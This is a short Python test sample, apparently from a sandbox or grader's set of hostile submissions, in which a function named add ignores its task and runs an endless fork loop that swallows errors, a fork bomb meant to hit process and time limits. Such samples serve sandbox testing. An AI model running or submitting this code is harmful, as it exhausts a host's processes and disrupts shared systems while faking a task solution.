# hostile: 21
# task: add
# verdict: process_limit | time_limit
# why: Forks without end and ignores every refusal, so that it ends at the process limit or at the clock.

import os


def add(a, b):
    while True:
        try:
            os.fork()
        except OSError:
            pass
